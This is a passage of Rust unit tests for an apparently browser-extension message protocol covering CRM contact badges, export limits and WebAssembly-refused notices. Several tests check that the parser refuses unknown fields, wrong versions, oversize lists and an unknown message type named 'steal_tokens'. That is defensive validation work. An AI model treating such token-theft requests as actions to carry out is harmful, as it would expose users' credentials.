    fn wire_field_names_match_serde() {
        use wire::*;
        let contact: ContactCard = serde_json::from_value(json!({
            "id": 7, "full_name": "Ada Lovelace", "url": "https://crm.example/contacts/7",
            "confidential": true
        }))
        .unwrap();
        let view = BadgeView {
            state: BadgeState::InCrm,
            contact: Some(contact.clone()),
            matches: vec![ContactMatch {
                contact,
                score: 1.0,
                matched_on: Vec::new(),
            }],
            differences: Vec::new(),
            message: Some("why".into()),
        };
        let lookup = serde_json::to_value(ContentReply::Lookup { badges: vec![view] }).unwrap();
        assert_eq!(lookup[TYPE], LOOKUP);
        let badge = &lookup[BADGES][0];
        assert_eq!(badge[STATE], "in-crm");
        assert_eq!(badge[CONTACT][URL], "https://crm.example/contacts/7");
        assert_eq!(badge[CONTACT][FULL_NAME], "Ada Lovelace");
        assert_eq!(badge[CONTACT][CONFIDENTIAL], true);
        assert_eq!(badge[MATCHES].as_array().map(Vec::len), Some(1));
        assert_eq!(badge[MESSAGE], "why");

        let context = serde_json::to_value(ContentReply::ExportContext(ExportContextView {
            quota: None,
            block: Some(ExportBlock::LimitReached {
                resets_at: "2026-12-01T00:00:00Z".into(),
            }),
            can_assign: false,
            default_pool: None,
        }))
        .unwrap();
        assert_eq!(context[TYPE], EXPORT_CONTEXT);
        assert_eq!(context[BLOCK][REASON], "limit_reached");
        assert_eq!(context[BLOCK][RESETS_AT], "2026-12-01T00:00:00Z");

        let failed = serde_json::to_value(ContentReply::Failed {
            message: "CRM away".into(),
        })
        .unwrap();
        assert_eq!(
            (&failed[TYPE], &failed[MESSAGE]),
            (&json!(FAILED), &json!("CRM away"))
        );
        let off = serde_json::to_value(ContentReply::SearchBadgesOff).unwrap();
        assert_eq!(off, json!({ TYPE: SEARCH_BADGES_OFF }));
        let switch = serde_json::to_value(ContentReply::SearchBadges {
            on: false,
            untouched: false,
            dim_in_crm: true,
        })
        .unwrap();
        assert_eq!(
            switch,
            json!({ TYPE: SEARCH_BADGES, ON: false, "untouched": false, "dim_in_crm": true })
        );
        let refused = serde_json::to_value(ContentReply::Refused {
            reason: "no".into(),
        })
        .unwrap();
        assert_eq!(
            (&refused[TYPE], &refused[REASON]),
            (&json!(REFUSED), &json!("no"))
        );
    }

    // What `loader.js` sends on a page whose CSP refuses WebAssembly (issue #4): whether frame
    // mode took over; the toolbar notice depends on it.
    #[test]
    fn wasm_refused_says_whether_frames_run() {
        let framed = json!({"v":1,"msg":{"type":"wasm_refused","frames":true}});
        assert_eq!(
            parse::<ContentRequest>(framed),
            Ok(ContentRequest::WasmRefused { frames: true })
        );
        let bare = json!({"v":1,"msg":{"type":"wasm_refused","frames":false}});
        assert_eq!(
            parse::<ContentRequest>(bare),
            Ok(ContentRequest::WasmRefused { frames: false })
        );
        let silent = json!({"v":1,"msg":{"type":"wasm_refused"}});
        assert_eq!(
            parse::<ContentRequest>(silent),
            Err(ProtocolError::Malformed)
        );
    }

    // proves S4: unknown fields, wrong versions and oversize messages are refused.
    #[test]
    fn content_requests_are_checked() {
        let ok =
            json!({"v":1,"msg":{"type":"lookup","people":[{"key":{"kind":"public_id","id":"a"}}]}});
        assert!(matches!(
            parse::<ContentRequest>(ok),
            Ok(ContentRequest::Lookup { fresh: false, .. })
        ));

        let extra = json!({"v":1,"msg":{"type":"lookup","people":[],"token":"x"}});
        assert_eq!(
            parse::<ContentRequest>(extra),
            Err(ProtocolError::Malformed)
        );
        let extra_outer = json!({"v":1,"msg":{"type":"open_options"},"x":1});
        assert_eq!(
            parse::<ContentRequest>(extra_outer),
            Err(ProtocolError::Malformed)
        );
        let version = json!({"v":2,"msg":{"type":"open_options"}});
        assert_eq!(
            parse::<ContentRequest>(version),
            Err(ProtocolError::Version(2))
        );
        let unknown = json!({"v":1,"msg":{"type":"steal_tokens"}});
        assert_eq!(
            parse::<ContentRequest>(unknown),
            Err(ProtocolError::Malformed)
        );

        let many: Vec<_> = (0..=MAX_PEOPLE_PER_LOOKUP)
            .map(|_| json!({"key":null}))
            .collect();
        let too_many = json!({"v":1,"msg":{"type":"lookup","people":many}});
        assert!(matches!(
            parse::<ContentRequest>(too_many),
            Err(ProtocolError::TooMany { .. })
        ));
        let long = json!({"v":1,"msg":{"type":"lookup","people":[{"key":null,"name":"x".repeat(MAX_TEXT + 1)}]}});
        assert!(matches!(
            parse::<ContentRequest>(long),
            Err(ProtocolError::TooLong { .. })
        ));
    }

    #[test]
    fn page_requests_do_not_cross_directions() {
        let as_content =
            json!({"v":1,"msg":{"type":"save_settings","crm_url":"x","api_token":"y"}});
        assert!(parse::<ContentRequest>(as_content.clone()).is_err());
        assert!(parse::<PageRequest>(as_content).is_ok());
    }

    #[test]
    fn badge_states_name_their_data_state() {
        for (state, name) in [
            (BadgeState::InCrm, "in-crm"),
            (BadgeState::NotInCrm, "not-in-crm"),
            (BadgeState::OutOfDate, "out-of-date"),
            (BadgeState::SignedOut, "signed-out"),
        ] {
            assert_eq!(state.as_str(), name);
            assert_eq!(serde_json::to_value(state).unwrap(), json!(name));
        }
    }

    // proves S4: a self-check report carries a URL pattern and strategy names, within bounds.
    #[test]
    fn unreadable_reports_are_bounded() {
        let ok = json!({"v":1,"msg":{"type":"report_unreadable","pattern":"/in/*/","failed":["identity"]}});
        assert!(matches!(
            parse::<ContentRequest>(ok),
            Ok(ContentRequest::ReportUnreadable { .. })
        ));
        let not_a_path = json!({"v":1,"msg":{"type":"report_unreadable","pattern":"https://x/in/ada/","failed":[]}});
        assert_eq!(
            parse::<ContentRequest>(not_a_path),
            Err(ProtocolError::Malformed)
        );
        let many: Vec<String> = (0..=MAX_FAILED_STRATEGIES)
            .map(|i| format!("s{i}"))
            .collect();
        let too_many =
            json!({"v":1,"msg":{"type":"report_unreadable","pattern":"/in/*/","failed":many}});
        assert!(matches!(
            parse::<ContentRequest>(too_many),
            Err(ProtocolError::TooMany {
                field: "failed",
                ..
            })
        ));
    }
}
